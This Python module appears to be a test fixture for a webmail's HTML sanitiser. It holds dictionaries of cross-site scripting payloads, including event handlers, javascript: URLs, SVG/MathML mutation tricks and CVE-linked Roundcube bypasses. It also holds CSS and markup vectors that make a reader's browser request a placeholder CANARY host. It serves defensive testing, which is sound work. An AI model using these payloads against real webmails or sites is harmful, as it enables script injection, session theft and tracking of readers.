"""Letters that try to run a script, or to have the reader's browser ask a server.

By family, from what was published on webmails (Roundcube's advisories of 2023 to 2026)
and on sanitisers (DOMPurify's and OWASP's collections). CANARY is where a request would
arrive; a script that runs changes window.top.name, the title or the canary's list.
"""

RUN = "top.name='owned';fetch('CANARY/script')"

SCRIPTS = {
    "plain": f"<script>{RUN}</script><script src='CANARY/a.js'></script>",
    "events": f'<img src=x onerror="{RUN}"><body onload="{RUN}">'
    f'<p onpointerover="{RUN}" onfocus="{RUN}" tabindex=1 autofocus>x</p>',
    "urls": f"<a href=\"javascript:{RUN}\" id=l>x</a><a href=' java&#10;script:x'>y</a>"
    f"<a href='data:text/html,<script>{RUN}</script>'>z</a><a href='vbscript:x'>v</a>",
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s>'
    "<set attributeName=href to='javascript:x'><foreignObject><iframe srcdoc='x'>"
    f"</iframe></foreignObject><use href='data:image/svg+xml,<svg onload={RUN}>'></svg>",
    "svg style": f'<svg><style><img src=x onerror="{RUN}"></style></svg>'
    f"<svg></p><style><a title='</style><img src=x onerror={RUN}>'>",
    "animate href": "<svg><a><animate attributeName=href values='javascript:x'/>"
    "<animate attributeName='xlink:href' begin=0s from=javascript:x to=&amp; />"
    "<text x=20 y=20>x</text></a></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    f"&lt;img src=1 onerror={RUN}&gt;'></table></mtext></math>",
    "mathml href": "<math href='javascript:x'>CLICK<maction actiontype='statusline#'"
    f" xlink:href='javascript:{RUN}'>x</maction></math>",
    "mutation": f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea>"
    f"<path id='</textarea><img onerror={RUN} src=1>'></form>"
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "comments": f"<!--><img src=x onerror={RUN}>--><!--[if IE]><script>{RUN}</script>"
    f"<![endif]--><![CDATA[<img src=x onerror={RUN}>]]><?x <img src=x onerror={RUN}>?>",
    "raw text": "".join(
        f"<{tag}></{tag}x><img src=x onerror={RUN}></{tag}>"
        f"<{tag}><p title='</{tag}><img src=x onerror={RUN}>'>"
        for tag in (
            "title",
            "textarea",
            "xmp",
            "noembed",
            "noframes",
            "iframe",
            "style",
        )
    ),
    "attributes": f'<p title="x" style="" class=\'"><img src=x onerror={RUN}>\'>a</p>'
    f"<img alt='`<img src=x onerror={RUN}>' src=x><a title=\"&quot;onclick={RUN}\">b</a>",
    "frames": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><object data=\'data:'
    f"text/html,<script>{RUN}</script>'></object><embed src='javascript:x'><portal src=x>",
    "forms": f"<form action='javascript:{RUN}'><button id=b formaction='javascript:x'>x"
    "</button><input type=image src=x onerror=x></form><isindex action=x><keygen>",
    "base": "<base href='javascript:/a/-alert(1)//'><a href='#'>x</a>",
    "clobber": "<form id=location><img name=cookie><a id=top><a id=top name=name></form>",
    "templates": f"<template><script>{RUN}</script></template><div><template shadowrootmode"
    f"=open><img src=x onerror={RUN}></template></div><slot onslotchange={RUN}>",
    "encodings": "+ADw-script+AD4-top.name='owned'+ADw-/script+AD4-\x00<scr\x00ipt>"
    f"{RUN}</scr\x00ipt>&lt;script&gt;<scrscriptipt>{RUN}</script>",
    "deep": "<div>" * 600 + f"<img src=x onerror={RUN}>" + "<table><td>" * 300,
    "custom": f"<x onclick={RUN} is=y>x</x><details open ontoggle={RUN}>y</details>"
    f"<marquee onstart={RUN}>z</marquee><video><source onerror={RUN} src=x></video>",
    # CVE-2024-42009: what was clean became a handler when it was put together again.
    "body title": f"<body title='bgcolor=foo' name='bar style=animation-name:x "
    f"onanimationstart={RUN} foo=bar'>Hello</body><body bgcolor='x\" onload={RUN} y=\"'>",
    # CVE-2024-37383, CVE-2025-68461: attributes that come by animation, names with space.
    "svg animate names": "<svg><animate attributeName='href ' values='javascript:"
    f"{RUN}' href='#l'/><set attributeName='&#x20;xlink:href' to='javascript:x'/><a id=l>"
    f"<text>x</text></a><animate attributeName='onclick' to='{RUN}'/><discard onbegin={RUN}>",
    "namespaces": f"<math><annotation-xml encoding='text/html'><style><img src=x onerror"
    f"={RUN}></style></annotation-xml></math><svg><desc><math><mi><style></math><img src=x"
    f" onerror={RUN}></style></mi></desc><title><style></title><img src=x onerror={RUN}>",
    "nesting": "<form><math>" * 120 + f"<mtext></form><form><mglyph><style></math><img"
    f" src=x onerror={RUN}>" + "<svg><a><b>" * 90 + f"<style><img src=x onerror={RUN}>",
    "selects": f"<select><option><style></option></select><img src=x onerror={RUN}></style>"
    f"</select><select><template><img src=x onerror={RUN}></template><keygen onfocus={RUN}>",
    "slashes": f"<img/src=x/onerror={RUN}><svg/onload={RUN}><a/href=javas\tcript:{RUN}>x</a>"
    f"<img src=x\x0conerror={RUN}><img src=x\x0bonerror={RUN}><p/'/onclick={RUN}//>y</p>",
    "schemes": "".join(
        f"<a href='{one}{RUN}'>x</a>"
        for one in (
            "javascript&colon;",
            "java&Tab;script:",
            "java&NewLine;script:",
            "\x01javascript:",
            "JaVaScRiPt:",
            "javascript&#0000058",
            "&#106avascript:",
            "feed:javascript:",
            "view-source:javascript:",
            "jar:javascript:",
            "blob:javascript:",
            "livescript:",
            "mhtml:javascript:",
            "data:application/xhtml+xml,",
            "data:image/svg+xml,",
        )
    ),
    "popovers": f"<button popovertarget=p onclick={RUN}>x</button><div popover id=p"
    f" onbeforetoggle={RUN} ontoggle={RUN}>y</div><dialog open onclose={RUN} oncancel={RUN}>"
    f"<form method=dialog></form></dialog><p contenteditable onbeforeinput={RUN}>z</p>",
    "transitions": f"<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationend"
    f"={RUN} ontransitionrun={RUN} style='transition:color 1s'>x</p><p"
    f" oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>y</p>"
    f"<p onscrollend={RUN} onscrollsnapchange={RUN}>z</p>",
    "old browsers": f"<p style='width:expression({RUN})'>x</p><p style='-moz-binding:url("
    "CANARY/x.xml#y);behavior:url(CANARY/x.htc)'>y</p><xml id=x><i><b>&lt;img src=x onerror"
    f"={RUN}&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>"
    f"<layer src='javascript:{RUN}'></layer><bgsound src='javascript:x'><applet code=x>",
    "declarations": f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;<?xml-stylesheet"
    f" href='javascript:{RUN}'?><!ATTLIST x onload CDATA '{RUN}'><![if true]><img src=x"
    f" onerror={RUN}><![endif]>",
    "areas": f"<img usemap=#m src=x><map name=m><area shape=default href='javascript:{RUN}'>"
    f"<area onfocus={RUN} href=x></map><link rel=import href='javascript:x'>",
    "ids of the page": "<div id=reader></div><div id=notices class=conversation></div><p"
    " id=rows hx-get=/logout/ hx-trigger=load data-hx-post=/do/ data-key=e>x</p><input"
    " name=csrfmiddlewaretoken value=x><a hx-get=/ hx-on:click='x' hx-vals='js:{a:1}'>y</a>",
}

REQUESTS = {
    "img": "<img src='CANARY/a.png'><img src='//CANARYHOST/b.png'><img srcset="
    "'CANARY/c.png 1x, CANARY/d.png 2x'><img lowsrc='CANARY/e' dynsrc='CANARY/f'>",
    "picture": "<picture><source srcset='CANARY/a'><img src=x></picture><video poster="
    "'CANARY/b' src='CANARY/c'><track src='CANARY/d'></video><audio src='CANARY/e'>",
    "background": "<body background='CANARY/a'><table background='CANARY/b'><td"
    " background='CANARY/c' style='background:url(CANARY/d)'>x</table>",
    "css urls": "<p style='background-image:url(\"CANARY/a\")'><p style='list-style:"
    "url(CANARY/b)'><p style='content:url(CANARY/c);cursor:url(CANARY/d),auto'>"
    "<p style='border-image:url(CANARY/e) 1;mask:url(CANARY/f);filter:url(CANARY/g)'>",
    "css escapes": "<p style='background:u\\72l(CANARY/a)'><p style='background:/**/url"
    "(CANARY/b)'><p style='background:URL( CANARY/c )'><p style='background-image:image-"
    "set(\"CANARY/d\" 1x)'><p style='background:-webkit-image-set(url(CANARY/e) 1x)'>"
    "<p style='--a:url(CANARY/f);background:var(--a)'><p style='background:src(\"CANARY/g\")'>",
    "style": "<style>@import 'CANARY/a';@font-face{font-family:x;src:url(CANARY/b)}"
    "p{font-family:x;background:url(CANARY/c)}</style><link rel=stylesheet href="
    "'CANARY/d'><link rel=prefetch href='CANARY/e'><link rel=dns-prefetch href='CANARY/f'>",
    "svg": "<svg><image href='CANARY/a' xlink:href='CANARY/b'/><use href='CANARY/c#x'/>"
    "<feImage href='CANARY/d'/><animate attributeName=href values='CANARY/e'/>"
    "<rect fill='url(CANARY/f#x)' mask='url(CANARY/g)' style='marker:url(CANARY/h)'/></svg>",
    "meta": "<meta http-equiv=refresh content='0;url=CANARY/a'><meta http-equiv="
    "Content-Security-Policy content=\"img-src *\"><base href='CANARY/'><img src='b.png'>",
    "frames": "<iframe src='CANARY/a'></iframe><object data='CANARY/b'><param name=movie"
    " value='CANARY/c'></object><embed src='CANARY/d'><frameset><frame src='CANARY/e'>",
    "forms": "<form action='CANARY/a' id=f><input type=image src='CANARY/b' autofocus>"
    "<button formaction='CANARY/c'>x</button></form><input type=submit form=f>",
    "ping": "<a href='#' ping='CANARY/a' attributionsrc='CANARY/b'>x</a><img"
    " attributionsrc='CANARY/c'><script src='CANARY/d'></script>",
    "quotes": "<blockquote cite='CANARY/a'>x</blockquote><q cite='CANARY/b'>y</q><del cite="
    "'CANARY/c'>z</del><body style='background:url(CANARY/d)'>",
    "fonts": "<font face='x' style='font:12px url(CANARY/a)'>x</font><p style=\"font-"
    "family:'x';src:url(CANARY/b)\">",
    # CVE-2024-42010 and what followed: the letter's style asks, not the letter.
    "css functions": "<p style='background:cross-fade(url(CANARY/a),url(CANARY/b),50%)'>"
    "<p style='background:image(\"CANARY/c\")'><p style='background:element(#x),paint(y)'>"
    "<p style='shape-outside:url(CANARY/d)'><p style='clip-path:url(CANARY/e#x)'><p style="
    "'offset-path:url(CANARY/f)'><p style='list-style-image:url(CANARY/g)'><p style='mask-"
    "image:url(CANARY/h)'><p style='-webkit-mask-box-image:url(CANARY/i)'><p style='border-"
    "image-source:url(CANARY/j)'><p style='-webkit-border-image:url(CANARY/k) 1'>",
    "css odd": "<p style='background:ur/**/l(CANARY/a)'><p style='background:url(/**/CANARY"
    "/b)'><p style='background:url(&quot;CANARY/c'><p style=\"background:url('CANARY/d\"><p"
    " style='background:\\75\\72\\6c(CANARY/e)'><p style='background:u\\\nrl(CANARY/f)'><p"
    " style='background&#58;url(CANARY/g)'><p style='color:red;}@import url(CANARY/h);x{'><p"
    " style='@import \"CANARY/i\"'><p style='background:url\x00(CANARY/j)'>",
    "css rules": "<style>@namespace 'CANARY/a';@import url(CANARY/b) layer(x);@media all{"
    "p{background:url(CANARY/c)}}@supports(color:red){p{cursor:url(CANARY/d),auto}}"
    "p::before{content:url(CANARY/e)}input[value^=a]{background:url(CANARY/f)}@counter-style"
    " x{symbols:url(CANARY/g)}@property --x{syntax:'<url>';inherits:false;initial-value:"
    "url(CANARY/h)}@page{background:url(CANARY/i)}</style><style media=print>p{background:"
    "url(CANARY/j)}</style><p style='background:var(--x)'>x</p>",
    # Roundcube 1.6.13 and 1.7: names that a list of attributes did not have.
    "svg attributes": "<svg><filter id=f><feImage xlink:href='CANARY/a'/></filter><rect filter="
    "'url(CANARY/b#f)' clip-path='url(CANARY/c#x)' marker-start='url(CANARY/d#x)' stroke="
    "'url(CANARY/e#x)' cursor='url(CANARY/f)'/><pattern href='CANARY/g'/><textPath href="
    "'CANARY/h'/><script href='CANARY/i'/><animate attributeName=fill values='url(CANARY/j"
    "#x)'/><set attributeName=mask to='url(CANARY/k#x)'/><a xlink:href=#><image xlink:href="
    "'//CANARYHOST/l'/></a><foreignObject><img src='CANARY/m'></foreignObject></svg>",
    "mathml": "<math href='CANARY/a'><mglyph src='CANARY/b'/><maction actiontype=x xlink:href="
    "'CANARY/c'>x</maction><mtext style='background:url(CANARY/d)'>y</mtext></math>",
    "hints": "<link rel=preconnect href='CANARY/a'><link rel=preload as=image href='CANARY/b'"
    " imagesrcset='CANARY/c 1x'><link rel=modulepreload href='CANARY/d'><link rel=prerender"
    " href='CANARY/e'><link rel=icon href='CANARY/f'><link rel=manifest href='CANARY/g'><link"
    ' rel=pingback href=\'CANARY/h\'><script type=speculationrules>{"prefetch":[{"urls":['
    "\"CANARY/i\"]}]}</script><a rel='prefetch prerender' href='#'>x</a>",
    "schemes": "<img src='ht\ttp://CANARYHOST/a'><img src='\\\\CANARYHOST/b'><img src='/\\CANARY"
    "HOST/c'><img src='cid:CANARY/d'><img src='cid:&quot;&gt;&lt;img src=CANARY/e&gt;'><img"
    " src='&#104;ttp://CANARYHOST/f'><img src=' CANARY/g '><img src='feed:CANARY/h'><img src="
    "'///CANARYHOST/i'><img src='http:CANARYHOST/j'><img src='\x01CANARY/k'>",
    "old attributes": "<img longdesc='CANARY/a' usemap='CANARY/b'><table profile='CANARY/c'><tr"
    " background='CANARY/d'><th background='CANARY/e'></table><bgsound src='CANARY/f'><applet"
    " codebase='CANARY/g' archive='CANARY/h'></applet><object classid='CANARY/i' codebase="
    "'CANARY/j'></object><input src='CANARY/k' type=image><isindex action='CANARY/l'><html"
    " manifest='CANARY/m'><head profile='CANARY/n'><portal src='CANARY/o'></portal>"
    "<fencedframe src='CANARY/p'></fencedframe><frame longdesc='CANARY/q'>",
    "srcdoc": "<iframe srcdoc='<img src=CANARY/a>'></iframe><template><img src='CANARY/b'>"
    "</template><noscript><img src='CANARY/c'></noscript><svg><style>*{background:url("
    "CANARY/d)}</style></svg><textarea><img src='CANARY/e'></textarea><!--><img src='CANARY/f'"
    "><!-- --!><img src='CANARY/g'>",
}

# Plain letters, and what stands in headers: text that a page might take for its own.
# CVE-2023-43770, CVE-2023-47272 and the like.
TEXTS = {
    "link": f'https://far.test/"onmouseover="{RUN}"x="',
    "link, closed": f"https://far.test/'><img src=x onerror={RUN}>",
    "link, entity": f"https://far.test/&quot;onmouseover=&quot;{RUN}",
    "link in brackets": f'[x](javascript:{RUN}) <javascript:{RUN}> <https://far.test/"{RUN}>',
    "script": f"<script>{RUN}</script><img src='CANARY/a' onerror=\"{RUN}\">",
    "quote": f"> <img src=x onerror={RUN}>\r\n>> </div><svg onload={RUN}>",
    "template": "{{ 7|add:7 }} {% debug %} ${top.name='owned'}",
    "long": "https://far.test/" + "a" * 5000 + f'"onclick="{RUN}',
}
